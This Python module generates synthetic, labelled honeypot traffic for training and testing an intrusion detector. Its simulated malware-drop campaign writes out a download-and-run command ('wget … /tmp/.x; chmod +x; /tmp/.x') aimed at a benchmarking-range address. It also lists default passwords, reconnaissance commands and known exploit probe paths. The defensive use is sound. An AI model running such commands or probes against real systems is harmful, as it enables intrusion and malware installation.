"""Labelled honeypot traffic: scripted attack campaigns against benign background traffic, whose
nature is known by construction (the script that produced a source's events in an hour is its
label). The detector is evaluated and the classifier trained on these labels; nothing here is
a guess.

Background (label `benign`): crawlers and browsers fetching ordinary pages, uptime monitors on a
fixed cadence (machine-regular, like bots), a mistyped login or two, a stray probe of one port.
Campaigns: `brute_force` (fast dictionary runs and low-and-slow ones spread over hours, a few
ending in a success), `scan` (port sweeps, fast or paced, or one masscan-style summary),
`malware_drop` (login, reconnaissance commands, download and run), `web_exploit` (probes of
known exploit paths mixed with ordinary requests). Parameters are drawn with overlap between
the classes (a slow brute force looks like mistyped logins, a small web probe like a crawler),
and the mix shifts in the second half of the period (more low-and-slow), so a split by time is
a real test. Addresses come from 198.18.0.0/15 (the benchmarking range): attackers 198.18/16,
background 198.19/16; the address is not a feature.

    labelled = generate(start, days=14, seed=1)
    labelled.messages   # Cowrie-style event dicts, for the event pipeline
    labelled.labels     # [(source_ip, window_start, label)], one per source and clock hour
"""

from __future__ import annotations

import random
import uuid
from dataclasses import dataclass, field
from datetime import datetime, timedelta

CLASSES = ["benign", "brute_force", "scan", "malware_drop", "web_exploit"]
SENSORS = {"ssh": ["ssh-lab-01", "ssh-lab-02"], "telnet": ["telnet-lab-01"], "web": ["web-lab-01"]}
USERNAMES = ["root", "admin", "ubuntu", "pi", "user", "oracle", "test", "support", "guest", "postgres", "git", "ftp"]
PASSWORDS = ["123456", "admin", "root", "password", "12345678", "qwerty", "1234", "ubnt", "raspberry", "P@ssw0rd",
             "default", "support", "letmein", "toor", "changeme", "111111", "abc123", "dragon", "master", "alpine"]
RECON = ["uname -a", "cat /proc/cpuinfo", "free -m", "nproc", "w", "cat /etc/passwd", "crontab -l", "ls -la /tmp",
         "ps aux", "id", "history -c", "cat /etc/os-release"]
PAGES = ["/", "/robots.txt", "/favicon.ico", "/index.html", "/about", "/contact", "/sitemap.xml", "/css/site.css",
         "/js/app.js", "/blog/", "/news/2026/11/", "/login"]
EXPLOITS = ["/cgi-bin/luci/;stok=/locale", "/.env", "/wp-login.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/boaform/admin/formLogin", "/actuator/env", "/.git/config", "/phpmyadmin/index.php", "/shell?cd+/tmp",
            "/HNAP1/"]
BROWSERS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (X11; Linux x86_64)",
            "Mozilla/5.0 (compatible; Googlebot/2.1)", "Mozilla/5.0 (compatible; bingbot/2.0)"]
TOOLS = ["Mozilla/5.0 zgrab/0.x", "python-requests/2.32", "curl/8.5.0", "Go-http-client/1.1"]
PORTS = [21, 22, 23, 25, 53, 80, 110, 135, 139, 143, 443, 445, 993, 1433, 1521, 2323, 3306, 3389, 5432, 5900, 6379,
         8080, 8443, 9200, 11211, 27017]


@dataclass
class Labelled:
    messages: list[dict] = field(default_factory=list)
    labels: list[tuple[str, datetime, str]] = field(default_factory=list)


class _Gen:
    def __init__(self, start: datetime, seed: int):
        self.rnd = random.Random(seed)
        self.ns = uuid.UUID(int=(seed << 64) + int(start.timestamp()))
        self.n = 0
        self.out = Labelled()
        self.seen: dict[tuple[str, datetime], str] = {}

    def ip(self, attacker: bool) -> str:
        return f"198.{18 if attacker else 19}.{self.rnd.randint(0, 255)}.{self.rnd.randint(1, 254)}"

    def ev(self, eventid: str, t: datetime, ip: str, label: str, sensor: str, **kw) -> None:
        self.n += 1
        hour = t.replace(minute=0, second=0, microsecond=0)
        prev = self.seen.get((ip, hour))
        if prev is None:
            self.seen[(ip, hour)] = label
        elif prev != label and prev == "benign":  # a campaign's hour outranks background of the same address
            self.seen[(ip, hour)] = label
        self.out.messages.append({
            "event_id": str(uuid.uuid5(self.ns, str(self.n))), "eventid": eventid, "timestamp": t.isoformat(),
            "src_ip": ip, "src_port": self.rnd.randint(1024, 65535), "dst_ip": "10.20.0.5", "sensor": sensor,
            "session": f"lab{self.n:07d}", **kw})

    # ------------------------------------------------------------------ background
    def crawler(self, t: datetime) -> None:
        ip, ua = self.ip(False), self.rnd.choice(BROWSERS)
        for _ in range(self.rnd.randint(1, 8)):
            t += timedelta(seconds=self.rnd.uniform(2, 400))
            # now and then a page that looks like a probe (a site owner's own login page, a link checker)
            url = self.rnd.choice(["/wp-login.php", "/.git/config"]) if self.rnd.random() < 0.03 else self.rnd.choice(PAGES)
            self.ev("http.request", t, ip, "benign", "web-lab-01", dst_port=self.rnd.choice([80, 443]), method="GET",
                    url=url, user_agent=ua, status_code=200)

    def monitor(self, t: datetime) -> None:
        ip, step = self.ip(False), self.rnd.choice([60, 120, 300])
        t = t.replace(minute=0, second=self.rnd.randint(0, 50))
        for i in range(3600 // step):
            self.ev("http.request", t + timedelta(seconds=i * step), ip, "benign", "web-lab-01", dst_port=443,
                    method="GET", url="/health", user_agent="UptimeMonitor/3.1", status_code=200)

    def mistyped_login(self, t: datetime) -> None:
        ip, user = self.ip(False), self.rnd.choice(USERNAMES[:6])
        proto = self.rnd.choice(["ssh", "ssh", "telnet"])
        for _ in range(self.rnd.randint(1, 5)):
            t += timedelta(seconds=self.rnd.uniform(3, 60))
            self.ev("cowrie.login.failed", t, ip, "benign", self.rnd.choice(SENSORS[proto]), dst_port=22 if proto == "ssh" else 23,
                    protocol=proto, username=user, password=self.rnd.choice(PASSWORDS[:8]))

    def stray_probe(self, t: datetime) -> None:
        ip = self.ip(False)
        for port in self.rnd.sample(PORTS, self.rnd.randint(1, 2)):
            t += timedelta(seconds=self.rnd.uniform(1, 120))
            self.ev("scan.port", t, ip, "benign", "web-lab-01", dst_port=port, transport="tcp", ports_probed=1)

    # ------------------------------------------------------------------ campaigns
    def brute_force(self, t: datetime, slow: bool) -> None:
        ip, proto = self.ip(True), self.rnd.choice(["ssh", "ssh", "telnet"])
        sensor, port = self.rnd.choice(SENSORS[proto]), 22 if proto == "ssh" else 23
        users = self.rnd.sample(USERNAMES, self.rnd.randint(1, 6))
        if slow:  # a few attempts an hour over several hours
            for h in range(self.rnd.randint(2, 6)):
                tt = t + timedelta(hours=h)
                for _ in range(self.rnd.randint(3, 10)):
                    tt += timedelta(seconds=self.rnd.uniform(60, 500))
                    self.ev("cowrie.login.failed", tt, ip, "brute_force", sensor, dst_port=port, protocol=proto,
                            username=self.rnd.choice(users), password=self.rnd.choice(PASSWORDS))
            return
        for _ in range(self.rnd.randint(15, 250)):
            t += timedelta(seconds=self.rnd.uniform(0.5, 8))
            self.ev("cowrie.login.failed", t, ip, "brute_force", sensor, dst_port=port, protocol=proto,
                    username=self.rnd.choice(users), password=self.rnd.choice(PASSWORDS) + str(self.rnd.randint(0, 99)))
        if self.rnd.random() < 0.2:
            t += timedelta(seconds=2)
            self.ev("cowrie.login.success", t, ip, "brute_force", sensor, dst_port=port,
                    protocol=proto, username=users[0], password="admin")
            for cmd in self.rnd.sample(RECON, self.rnd.randint(0, 2)):  # a look around, nothing dropped
                t += timedelta(seconds=self.rnd.uniform(1, 5))
                self.ev("cowrie.command.input", t, ip, "brute_force", sensor, dst_port=port, protocol=proto, input=cmd)

    def scan(self, t: datetime) -> None:
        ip = self.ip(True)
        style = self.rnd.choice(["fast", "paced", "summary", "slow"])
        if style == "slow":  # a port or three an hour, for hours
            for h in range(self.rnd.randint(3, 8)):
                tt = t + timedelta(hours=h)
                for p in self.rnd.sample(PORTS, self.rnd.randint(1, 3)):
                    tt += timedelta(seconds=self.rnd.uniform(30, 900))
                    self.ev("scan.port", tt, ip, "scan", "web-lab-01", dst_port=p, transport="tcp", ports_probed=1)
            return
        if style == "summary":  # one masscan-style record of a sweep
            self.ev("scan.port", t, ip, "scan", "web-lab-01", dst_port=self.rnd.choice(PORTS), transport="tcp",
                    ports_probed=self.rnd.randint(100, 65535))
            return
        ports = self.rnd.sample(PORTS, self.rnd.randint(5, len(PORTS))) if style == "paced" else \
            self.rnd.sample(range(1, 65536), self.rnd.randint(20, 400))
        for p in ports:
            t += timedelta(seconds=self.rnd.uniform(20, 200) if style == "paced" else self.rnd.uniform(0.05, 2))
            self.ev("scan.port", t, ip, "scan", "web-lab-01", dst_port=p, transport=self.rnd.choice(["tcp", "tcp", "udp"]),
                    ports_probed=1)

    def malware_drop(self, t: datetime) -> None:
        ip, proto = self.ip(True), self.rnd.choice(["ssh", "telnet"])
        sensor, port = self.rnd.choice(SENSORS[proto]), 22 if proto == "ssh" else 23
        if self.rnd.random() < 0.25:  # a bot that only pushes its file
            sha = uuid.uuid5(self.ns, f"sha{self.n}").hex * 2
            self.ev("cowrie.session.file_download", t, ip, "malware_drop", sensor, dst_port=port, protocol=proto,
                    url=f"http://198.18.{self.rnd.randint(0, 255)}.{self.rnd.randint(1, 254)}/x.sh", shasum=sha)
            return
        for _ in range(self.rnd.randint(0, 5)):
            t += timedelta(seconds=self.rnd.uniform(1, 10))
            self.ev("cowrie.login.failed", t, ip, "malware_drop", sensor, dst_port=port, protocol=proto,
                    username="root", password=self.rnd.choice(PASSWORDS))
        t += timedelta(seconds=2)
        self.ev("cowrie.login.success", t, ip, "malware_drop", sensor, dst_port=port, protocol=proto, username="root",
                password=self.rnd.choice(PASSWORDS))
        for cmd in self.rnd.sample(RECON, self.rnd.randint(2, 9)):
            t += timedelta(seconds=self.rnd.uniform(0.5, 6))
            self.ev("cowrie.command.input", t, ip, "malware_drop", sensor, dst_port=port, protocol=proto, input=cmd)
        for i in range(self.rnd.randint(1, 2)):
            sha = uuid.uuid5(self.ns, f"sha{self.n}{i}").hex * 2
            url = f"http://198.18.{self.rnd.randint(0, 255)}.{self.rnd.randint(1, 254)}/bins/x{i}.{self.rnd.choice(['arm7', 'mips', 'x86'])}"
            t += timedelta(seconds=self.rnd.uniform(1, 5))
            self.ev("cowrie.command.input", t, ip, "malware_drop", sensor, dst_port=port, protocol=proto,
                    input=f"wget {url} -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x")
            self.ev("cowrie.session.file_download", t + timedelta(seconds=3), ip, "malware_drop", sensor,
                    dst_port=port, protocol=proto, url=url, shasum=sha, outfile="/tmp/.x")

    def web_exploit(self, t: datetime) -> None:
        ip, ua = self.ip(True), self.rnd.choice(TOOLS)
        share = self.rnd.uniform(0.5, 1.0)
        for _ in range(self.rnd.randint(1, 40)):
            t += timedelta(seconds=self.rnd.uniform(0.2, 30))
            url = self.rnd.choice(EXPLOITS) if self.rnd.random() < share else self.rnd.choice(PAGES)
            self.ev("http.request", t, ip, "web_exploit", "web-lab-01", dst_port=self.rnd.choice([80, 443, 8080]),
                    method=self.rnd.choice(["GET", "GET", "POST"]), url=url, user_agent=ua,
                    status_code=self.rnd.choice([404, 404, 403, 200]))


def lab_week(now: datetime, days_back: int = 400) -> datetime:
    """The end of the labelled lab weeks the stack and the tests load: the Sunday 03:00 UTC (the
    job's schedule tick) at least `days_back` days ago, far from the hours other data lives in
    and well within the events' two-year retention."""
    t = (now - timedelta(days=days_back)).replace(hour=3, minute=0, second=0, microsecond=0)
    return t - timedelta(days=(t.weekday() + 1) % 7)


def generate(start: datetime, days: int = 14, seed: int = 1, background_per_hour: int = 12,
             campaigns_per_hour: float = 1.5) -> Labelled:
    """`days` of traffic from `start` (UTC, an hour boundary): messages and per-(source, hour) labels."""
    start = start.replace(minute=0, second=0, microsecond=0)
    g = _Gen(start, seed)
    hours = days * 24
    for h in range(hours):
        t0 = start + timedelta(hours=h)
        late = h >= hours // 2  # the mix shifts: more low-and-slow brute force later
        for _ in range(g.rnd.randint(background_per_hour - 3, background_per_hour + 3)):
            kind = g.rnd.choices(["crawler", "monitor", "mistyped", "probe"], weights=[6, 1, 2, 3])[0]
            t = t0 + timedelta(seconds=g.rnd.uniform(0, 3000))
            {"crawler": g.crawler, "monitor": g.monitor, "mistyped": g.mistyped_login, "probe": g.stray_probe}[kind](t)
        n = int(campaigns_per_hour) + (1 if g.rnd.random() < campaigns_per_hour % 1 else 0)
        for _ in range(n):
            t = t0 + timedelta(seconds=g.rnd.uniform(0, 3000))
            kind = g.rnd.choices(["brute_force", "slow_brute_force", "scan", "malware_drop", "web_exploit"],
                                 weights=[3, 3 if late else 1, 3, 2, 2])[0]
            if kind.endswith("brute_force"):
                g.brute_force(t, slow=kind.startswith("slow"))
            else:
                getattr(g, kind)(t)
    end = start + timedelta(hours=hours)
    keep = [m for m in g.out.messages if datetime.fromisoformat(m["timestamp"]) < end]  # nothing beyond the period
    g.out.messages = sorted(keep, key=lambda m: m["timestamp"])
    stamps = {(m["src_ip"], datetime.fromisoformat(m["timestamp"]).replace(minute=0, second=0, microsecond=0))
              for m in g.out.messages}
    g.out.labels = sorted((ip, w, lab) for (ip, w), lab in g.seen.items() if (ip, w) in stamps)
    return g.out


def load(clients, labelled: Labelled, origin: str = "scripted_campaigns") -> dict:
    """Through the event pipeline (validation, de-duplication, enrichment, scoring by the rule),
    then the labels into `ml_labels`. Loading the same traffic again stores nothing twice (the
    events' ids are fixed: receipts catch them)."""
    import json

    from include.security.store import IngestConfig, Message, ingest

    msgs = [Message(ref=f"lab:{m['event_id']}", source="labelled", raw=json.dumps(m)) for m in labelled.messages]
    res = ingest(clients, msgs, IngestConfig(write_payloads=False), batch_size=2000)
    with clients.db() as conn, conn.cursor() as cur:
        cur.executemany(
            """INSERT INTO ml_labels (source_ip, window_start, label, origin) VALUES (%s, %s, %s, %s)
               ON CONFLICT (source_ip, window_start) DO UPDATE SET label = EXCLUDED.label, origin = EXCLUDED.origin""",
            [(ip, w, lab, origin) for ip, w, lab in labelled.labels])
    return {"messages": len(msgs), "stored": res.stored, "already": res.already, "rejected": res.rejected,
            "duplicates": res.duplicates, "labels": len(labelled.labels)}


def offline_frame(labelled: Labelled):
    """The labelled window features without the database (benchmarks and tests): each message
    parsed by the event pipeline's parser and given the pipeline's rule threat level (no IOC
    feeds, repetition counted over the source's past hour), then the same window features as
    training reads from `events`."""
    import json
    from collections import deque

    import pandas as pd

    from include.ml import features as F
    from include.security import events as E
    from include.security.scoring import threat_level

    rows, recent = [], {}
    for m in labelled.messages:
        e = E.parse(json.dumps(m), now=e_now(labelled))
        q = recent.setdefault(e.source_ip, deque())
        while q and q[0] <= e.created_at - F.WINDOW:
            q.popleft()
        rows.append(F.event_row(e, threat_level(e, [], len(q))))
        q.append(e.created_at)
    ev = pd.DataFrame(rows, columns=F.COLUMNS)
    frame = F.hourly_windows(ev)
    ev["window_start"] = pd.to_datetime(ev["created_at"], utc=True).dt.floor("h")
    rule = ev.groupby(["source_ip", "window_start"])["threat_level"].max().rename("rule_level").reset_index()
    labels = pd.DataFrame(labelled.labels, columns=["source_ip", "window_start", "label"])
    labels["window_start"] = pd.to_datetime(labels["window_start"], utc=True)
    return frame.merge(rule, on=["source_ip", "window_start"]).merge(labels, on=["source_ip", "window_start"], how="left")


def e_now(labelled: Labelled):
    """A parse-time "now" after the last message (old traffic is not rejected as future)."""
    last = labelled.messages[-1]["timestamp"] if labelled.messages else None
    return datetime.fromisoformat(last) + timedelta(minutes=1) if last else None
